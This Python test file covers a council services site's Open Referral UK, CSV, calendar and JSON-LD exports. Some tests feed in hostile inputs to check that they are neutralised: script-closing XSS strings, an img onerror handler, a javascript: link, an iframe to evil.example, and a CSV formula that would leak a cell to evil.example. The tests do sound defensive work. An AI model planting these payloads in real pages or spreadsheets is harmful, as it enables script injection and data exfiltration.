"""Open Referral UK files, HSDS tables, calendars and JSON-LD: valid, stable, and the same facts as the catalogue."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from pathlib import Path

import jsonschema
import pytest
from referencing import Registry
from referencing.jsonschema import DRAFT202012

from conftest import BUILD_DATE, FIXTURES, valid_services
from opencounter.exports import export_files
from opencounter.jsonld import StructuredData
from opencounter.loading import load_catalogue
from opencounter.openreferral import TABLES, OpenReferral
from sitebuild import build, make_project


SCHEMAS = Path(__file__).parent / "reference" / "openreferral-uk-3.0" / "schema"
BASE = "https://openreferraluk.org/specifications/3.0/schema/"


def _registry() -> Registry:
    """The official schemas refer to each other by their web addresses: map those to the local copies."""
    return Registry().with_resources(
        (BASE + path.name, DRAFT202012.create_resource(json.loads(path.read_text()))) for path in SCHEMAS.glob("*.json"))


REGISTRY = _registry()


def validate(name: str, document) -> list[str]:
    schema = json.loads((SCHEMAS / name).read_text())
    validator = jsonschema.Draft202012Validator(schema, registry=REGISTRY, format_checker=jsonschema.FormatChecker())
    return [f"{list(error.path)}: {error.message}" for error in validator.iter_errors(document)]


@pytest.fixture(scope="module", params=["sample", "northbrook"])
def built(request):
    return request.getfixturevalue(request.param)


def _services(built) -> list[dict]:
    return [json.loads(p.read_text()) for p in sorted((built.site / "openreferral" / "services").glob("*.json"))]


@pytest.mark.build
def test_the_root_answers_the_version_profile_and_openapi_address(built):
    root = json.loads((built.site / "openreferral" / "index.json").read_text())
    assert root["version"] == "HSDS-UK-3.0"
    assert not validate("api_details.json", root)


@pytest.mark.build
def test_the_services_list_is_one_valid_page_of_every_service(built):
    page = json.loads((built.site / "openreferral" / "services.json").read_text())
    count = len(list((built.project / "services.yaml").read_text().split("\n  - id: "))) - 1
    assert page["total_items"] == page["size"] == len(page["contents"]) > 0
    assert (page["total_pages"], page["page_number"], page["first_page"], page["last_page"], page["empty"]) == \
        (1, 1, True, True, False)
    assert not validate("service_list.json", page)
    assert len(page["contents"]) == len(_services(built)) <= count


@pytest.mark.build
def test_every_service_file_validates_against_the_official_schema(built):
    services = _services(built)
    assert services
    problems = [f"{s['name']}: {p}" for s in services for p in validate("service.json", s)]
    assert not problems, problems[:10]
    for service in services:
        assert (built.site / "openreferral" / "services" / f"{service['id']}.json").is_file()
        assert uuid.UUID(service["id"]).version == 5


@pytest.mark.build
def test_ids_are_the_same_in_every_build_and_differ_between_councils(sample, tmp_path):
    again = make_project(tmp_path / "again", sample.project / "services.yaml", sample.project / "standards.yaml")
    assert build(again, "2026-11-24", "--site-dir", str(tmp_path / "again-site")).returncode == 0
    first = sorted(p.name for p in (sample.site / "openreferral" / "services").glob("*.json"))
    second = sorted(p.name for p in (tmp_path / "again-site" / "openreferral" / "services").glob("*.json"))
    assert first == second
    other = (sample.project / "services.yaml").read_text().replace("https://www.riverside.example",
                                                                    "https://www.elsewhere.example")
    moved = make_project(tmp_path / "moved", other, sample.project / "standards.yaml")
    assert build(moved, "2026-11-24", "--site-dir", str(tmp_path / "moved-site")).returncode == 0
    third = sorted(p.name for p in (tmp_path / "moved-site" / "openreferral" / "services").glob("*.json"))
    assert not set(first) & set(third)


@pytest.mark.build
def test_a_service_carries_its_offices_hours_closures_and_phones(sample):
    council_tax = next(s for s in _services(sample) if s["name"] == "Council Tax")
    assert council_tax["organization"]["name"] == "Riverside Borough Council"
    places = {link["location"]["name"]: link["location"] for link in council_tax["service_at_locations"]}
    house = places["Riverside House"]
    assert house["addresses"][0]["postal_code"] == "RV1 2AB" and house["addresses"][0]["country"] == "GB"
    weekly = [s for s in council_tax["schedules"] if s.get("freq") == "WEEKLY" and "Riverside House" in s["attending_type"]]
    assert {(s["byday"], s["opens_at"], s["closes_at"]) for s in weekly} == {("MO,TU,WE,TH", "08:45", "17:15"),
                                                                             ("FR", "08:45", "16:45")}
    closures = [s for s in council_tax["schedules"] if s.get("valid_from")]
    assert any(s["valid_from"] == "2026-12-24" and s["valid_to"] == "2027-01-01" for s in closures)
    assert "01632 960000" in {p["number"] for p in council_tax["phones"]}


@pytest.mark.build
def test_the_tables_are_a_data_package_with_one_csv_per_table(built):
    folder = built.site / "openreferral"
    package = json.loads((folder / "datapackage.json").read_text())
    assert {r["name"] for r in package["resources"]} == set(TABLES)
    for resource in package["resources"]:
        rows = list(csv.DictReader(io.StringIO((folder / resource["path"]).read_text(encoding="utf-8"))))
        assert [f["name"] for f in resource["schema"]["fields"]] == list(TABLES[resource["name"]])
        assert len({row["id"] for row in rows}) == len(rows), resource["name"]  # ids are unique
    services = list(csv.DictReader(io.StringIO((folder / "services.csv").read_text(encoding="utf-8"))))
    assert len(services) == len(_services(built))


@pytest.mark.build
def test_each_office_has_a_calendar_of_closures_and_bank_holidays(sample):
    text = (sample.site / "calendars" / "riverside-house.ics").read_bytes().decode("utf-8")
    assert text.startswith("BEGIN:VCALENDAR\r\n") and text.endswith("END:VCALENDAR\r\n")
    assert "DTSTART;VALUE=DATE:20261224\r\nDTEND;VALUE=DATE:20270102\r\n" in text  # to 1 January, inclusive
    assert "SUMMARY:Riverside House closed: Christmas and New Year" in text
    assert "bank holiday" in text
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    assert 'href="../../calendars/riverside-house.ics"' in sample.page("offices/riverside-house")


def json_ld(html: str) -> dict:
    """The one schema.org document in a page's head."""
    found = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.S)
    assert len(found) == 1
    return json.loads(found[0])


@pytest.mark.build
def test_service_pages_describe_a_government_service(sample):
    data = json_ld(sample.page("services/council-tax"))
    assert data["@type"] == "GovernmentService" and data["name"] == "Council Tax"
    assert data["provider"]["name"] == "Riverside Borough Council"
    phones = [c["servicePhone"]["telephone"] for c in data["availableChannel"] if "servicePhone" in c]
    assert "01632 960000" in phones
    assert any(c.get("serviceLocation", {}).get("address", {}).get("postalCode") == "RV1 2AB"
               for c in data["availableChannel"])


@pytest.mark.build
def test_office_pages_give_hours_and_special_days(sample):
    data = json_ld(sample.page("offices/riverside-house"))
    assert data["@type"] == "GovernmentOffice" and data["address"]["postalCode"] == "RV1 2AB"
    hours = {(tuple(d.split("/")[-1] for d in h["dayOfWeek"]), h["opens"], h["closes"])
             for h in data["openingHoursSpecification"]}
    assert (("Monday", "Tuesday", "Wednesday", "Thursday"), "08:45", "17:15") in hours
    special = data["specialOpeningHoursSpecification"]
    assert {"validFrom": "2026-12-24", "validThrough": "2027-01-01", "opens": "00:00", "closes": "00:00"} \
        .items() <= special[0].items()


@pytest.mark.build
def test_the_contact_page_lists_contact_points(sample):
    data = json_ld(sample.page("contact"))
    assert data["@type"] == "GovernmentOrganization"
    assert "01632 960000" in {p.get("telephone") for p in data["contactPoint"]}


@pytest.mark.build
def test_no_catalogue_text_can_close_the_json_ld_script(tmp_path):
    hostile = "</script><script>alert(1)</script>"
    services = (FIXTURES / "valid" / "services.yaml").read_text().replace(
        "summary: Find out when your bins are collected.", f"summary: \"{hostile}\"")
    project = make_project(tmp_path, services, FIXTURES / "valid" / "standards.yaml")
    result = build(project)
    assert result.returncode == 0, result.output
    html = (project / "site" / "services" / "bin-collections" / "index.html").read_text()
    assert "<script>alert(1)" not in html
    assert json_ld(html)["description"] == hostile  # the text itself survives, as data


# ---------------------------------------------------------------- unit tests: no build

SITE = "https://www.testshire.example/"
HOSTILE = ("Bring proof of address. <img src=x onerror=alert(1)> <iframe src=\"https://evil.example\"></iframe> "
           "[Read more](javascript:alert(1)) <script>alert(2)</script> [Map](https://maps.example/testham)")


def _hostile_catalogue(tmp_path):
    """Every Markdown field that open data carries, written with raw HTML and a javascript: link."""
    block = "|\n      " + HOSTILE.replace("\n", " ")
    services = valid_services().replace(
        "    summary: Find out when your bins are collected.\n",
        f"    summary: Find out when your bins are collected.\n    description: {block}\n").replace(
        "    access: walk-in\n", f"    access: walk-in\n    directions: {block}\n")
    standards = (FIXTURES / "valid" / "standards.yaml").read_text().replace(
        "    target: 45 seconds\n", f"    target: 45 seconds\n    detail: {block}\n")
    (tmp_path / "services.yaml").write_text(services)
    (tmp_path / "standards.yaml").write_text(standards)
    return load_catalogue(tmp_path / "services.yaml", tmp_path / "standards.yaml", BUILD_DATE)


def _every_data_file(catalogue) -> dict[str, str]:
    files = {path: data.decode("utf-8") for path, data in export_files(catalogue, SITE).items()}
    structured = StructuredData(catalogue, SITE)
    documents = [structured.service(s) for s in catalogue.services] + [structured.office(o) for o in catalogue.offices]
    files["json-ld"] = json.dumps(documents + [structured.contact()], ensure_ascii=False)
    return files


def test_open_data_carries_a_markdown_field_as_the_plain_text_the_page_shows(tmp_path):
    catalogue = _hostile_catalogue(tmp_path)
    files = _every_data_file(catalogue)
    for path, text in files.items():
        for raw in ("<img", "onerror", "<iframe", "javascript:", "<script", "alert("):
            assert raw not in text, (path, raw)
    service = json.loads(files["openreferral/services.json"])["contents"][0]
    assert service["description"] == ("Find out when your bins are collected.\n\n"
                                      "Bring proof of address. Read more Map")  # link words kept, addresses not
    location = json.loads(next(t for p, t in files.items() if p.startswith("openreferral/services/")))
    assert location["service_at_locations"][0]["location"]["description"] == "Bring proof of address. Read more Map"
    standards = list(csv.DictReader(io.StringIO(files["openreferral/standards.csv"])))
    assert standards[0]["detail"] == "Bring proof of address. Read more Map"


def test_no_csv_cell_can_run_as_a_formula_in_a_spreadsheet(tmp_path, write_catalogue):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    services = valid_services().replace("name: Bin collections", f"name: '{formula}'").replace(
        "    summary: Find out when your bins are collected.\n",
        "    summary: '+44 1632 960000 is our number; -2 days, @home, =1+2'\n").replace(
        "    postcode: TE1 1AA\n    access: walk-in\n",
        "    postcode: TE1 1AA\n    access: walk-in\n    latitude: 54.6431\n    longitude: -3.5436\n")
    catalogue = write_catalogue(services)
    tables = OpenReferral(catalogue, SITE).tables()
    text = tables["services.csv"].decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "'" + formula
    assert rows[0]["description"].startswith("'+44 1632 960000")
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text  # quoted, quotes doubled (OWASP)
    assert all(line.startswith('"') for line in text.splitlines())  # every cell in quotes
    location = list(csv.DictReader(io.StringIO(tables["locations.csv"].decode("utf-8"))))[0]
    assert (location["latitude"], location["longitude"]) == ("54.6431", "-3.5436")  # numbers stay numbers
    package = json.loads(tables["datapackage.json"])
    longitude = next(f for r in package["resources"] if r["name"] == "locations"
                     for f in r["schema"]["fields"] if f["name"] == "longitude")
    assert longitude["type"] == "number"


def test_the_data_package_has_the_standards_and_every_published_result():
    case = FIXTURES / "format-1-1"
    catalogue = load_catalogue(case / "services.yaml", case / "standards.yaml", BUILD_DATE)
    tables = OpenReferral(catalogue, SITE).tables()
    package = json.loads(tables["datapackage.json"])
    resources = {r["name"]: r for r in package["resources"]}
    assert {"standards", "performance"} <= set(resources)
    types = {name: {f["name"]: f["type"] for f in resources[name]["schema"]["fields"]}
             for name in ("standards", "performance")}
    assert types["performance"] == {"id": "string", "standard_id": "string", "measure": "string", "subject": "string",
                                    "period": "string", "result": "number", "unit": "string", "goal": "number"}
    assert set(types["standards"]) >= {"id", "standard", "service_id", "channel", "promise", "target", "detail"}
    assert resources["performance"]["schema"]["foreignKeys"][0]["reference"] == {"resource": "standards",
                                                                                 "fields": "id"}

    def rows(name):
        return list(csv.DictReader(io.StringIO(tables[f"{name}.csv"].decode("utf-8"))))

    standards, results = rows("standards"), rows("performance")
    council = [s for s in standards if not s["service_id"]]
    assert [(s["standard"], s["channel"], s["target"]) for s in council] == [
        ("answer-calls", "phone", "45 seconds"), ("reply-emails", "email", "5 working days"),
        ("webchat-wait", "webchat", "2 minutes"), ("", "text-relay", "")]
    assert len({s["id"] for s in standards}) == len(standards)  # a standard without an id has one here
    services = {s["id"] for s in rows("services")}
    assert all(s["service_id"] in services for s in standards if s["service_id"])
    answer_calls = next(s["id"] for s in standards if s["standard"] == "answer-calls")
    assert len(results) == len(catalogue.performance) == 7
    first, count = results[0], results[-1]
    assert (first["standard_id"], first["period"], first["result"], first["unit"], first["goal"]) == \
        (answer_calls, "2022 to 2023", "81", "percent", "80")
    assert first["subject"] == "We answer calls within 45 seconds."
    assert (count["standard_id"], count["measure"], count["result"], count["unit"], count["goal"]) == \
        ("", "calls-answered", "41204", "number", "")
    assert all(r["standard_id"] in {s["id"] for s in standards} for r in results if r["standard_id"])
    assert len({r["id"] for r in results}) == len(results)



def test_a_services_own_standard_is_a_row_of_the_standards_table_in_the_sites_language():
    case = FIXTURES / "bilingual"
    catalogue = load_catalogue(case / "services.yaml", case / "standards.yaml", BUILD_DATE, language="cy")
    referral = OpenReferral(catalogue, SITE)
    rows = list(csv.DictReader(io.StringIO(referral.tables()["standards.csv"].decode("utf-8"))))
    own = [r for r in rows if r["service_id"]]
    service = next(s for s in catalogue.services if s.standards)
    assert [(r["service_id"], r["promise"], r["target"]) for r in own] == [
        (referral.service_id(service), "Byddwn yn ateb eich cwestiwn cyn pen 2 ddiwrnod gwaith.", "2 working days")]
